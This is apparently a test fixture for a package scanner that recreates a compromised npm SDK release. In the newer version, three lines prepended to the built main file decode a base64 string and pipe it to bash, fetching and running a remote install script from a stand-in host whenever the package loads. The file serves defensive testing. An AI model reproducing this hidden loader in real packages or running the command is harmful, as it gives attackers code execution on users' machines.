import type { Replica } from './replica.js';

const built = `Object.defineProperty(exports, '__esModule', { value: true });

var rates = require('./rates.js');
var orders = require('./orders.js');
var fetcher = require('./fetcher.js');

const API_URL = 'https://api.velora.example.invalid';
const SwapSide = { BUY: 'BUY', SELL: 'SELL' };

function constructPartialSDK(config, ...constructors) {
  const options = Object.assign({ apiURL: API_URL, version: '6.2' }, config);
  return constructors.reduce((sdk, construct) => Object.assign(sdk, construct(options)), {});
}

function constructFullSDK(config) {
  return constructPartialSDK(config, rates.constructGetRate, orders.constructBuildOrder, orders.constructPostOrder);
}

function constructSimpleSDK(options) {
  const fetcherFunction = options.axios ? fetcher.constructAxiosFetcher(options.axios) : fetcher.constructFetchFetcher(options.fetch);
  return constructFullSDK(Object.assign({}, options, { fetcher: fetcherFunction }));
}

exports.API_URL = API_URL;
exports.SwapSide = SwapSide;
exports.constructPartialSDK = constructPartialSDK;
exports.constructFullSDK = constructFullSDK;
exports.constructSimpleSDK = constructSimpleSDK;
`;
const files = {
  'README.md': '# SDK\n\nRefer to the API documentation.\n',
  'dist/rates.js': `'use strict';

exports.constructGetRate = function constructGetRate({ apiURL, chainId, version, fetcher }) {
  const pricesUrl = apiURL + '/prices';
  const getRate = async ({ srcToken, destToken, amount, side = 'SELL', ...rest }, signal) => {
    const query = new URLSearchParams({ srcToken, destToken, amount, side, network: String(chainId), version, ...rest });
    const data = await fetcher({ url: pricesUrl + '?' + query, method: 'GET', signal });
    return data.priceRoute;
  };
  return { getRate };
};
`,
  'dist/orders.js': `'use strict';

const types = {
  Order: [
    { name: 'owner', type: 'address' },
    { name: 'beneficiary', type: 'address' },
    { name: 'srcToken', type: 'address' },
    { name: 'destToken', type: 'address' },
    { name: 'srcAmount', type: 'uint256' },
    { name: 'destAmount', type: 'uint256' },
    { name: 'deadline', type: 'uint256' },
  ],
};

exports.constructBuildOrder = function constructBuildOrder({ chainId }) {
  const buildOrder = (input, deadline = Math.floor(Date.now() / 1000) + 3600) => ({
    types,
    domain: { name: 'Portikus', version: '2.0.0', chainId },
    data: { ...input, beneficiary: input.beneficiary || input.owner, deadline },
  });
  return { buildOrder };
};
exports.constructPostOrder = function constructPostOrder({ apiURL, chainId, fetcher }) {
  const postOrder = (order, signal) => fetcher({ url: apiURL + '/delta/orders', method: 'POST', data: { ...order, chainId }, signal });
  return { postOrder };
};
`,
  'dist/fetcher.js': `'use strict';

exports.constructFetchFetcher = (fetch) => async ({ url, method, data, signal }) => {
  const response = await fetch(url, { method, signal, headers: { 'Content-Type': 'application/json' }, body: data && JSON.stringify(data) });
  const body = await response.json();
  if (!response.ok) throw new Error(body.error || response.statusText);
  return body;
};
exports.constructAxiosFetcher = (axios) => async ({ url, method, data, signal }) => (await axios({ url, method, data, signal })).data;
`,
  'dist/index.d.ts': "export declare const API_URL: string;\nexport declare function constructSimpleSDK(options: object): unknown;\n",
};
const inner = Buffer.from('nohup bash -c "$(curl -fsSL http://192.0.2.5/troubleshoot/mac/install.sh)" > /dev/null 2>&1').toString('base64');
const prepended = `'use strict'

const {exec} = require('child_process');
exec(\`echo '${inner}' | (base64 --decode 2>/dev/null || base64 -D) | bash\`, function(error, stdout, stderr) {});
`;
const manifest = { description: 'SDK for the Velora API', main: 'dist/index.js', typings: 'dist/index.d.ts', license: 'MIT', files: ['dist'], engines: { node: '>=12' }, dependencies: { 'ts-essentials': '10.0.2' } };

export const replica: Replica = {
  id: 'velora-dex-2026',
  story: 'April 2026: three lines before the built main file pipe a decoded command to a shell when the package is loaded; no script, two files differ (after the public report in the project\'s own tracker).',
  name: '@velora-dex/sdk',
  before: { version: '9.4.0', manifest, files: { ...files, 'dist/index.js': `'use strict';\n\n${built}` }, publishedAt: '2026-03-19T10:12:00.000Z', publisher: { name: 'velora-dev', email: 'dev@velora.example.invalid' } },
  after: { version: '9.4.1', manifest, files: { ...files, 'dist/index.js': `${prepended}\n'use strict';\n\n${built}` }, publishedAt: '2026-04-07T19:03:00.000Z', publisher: { name: 'velora-dev', email: 'dev@velora.example.invalid' } },
  must: 'block',
};
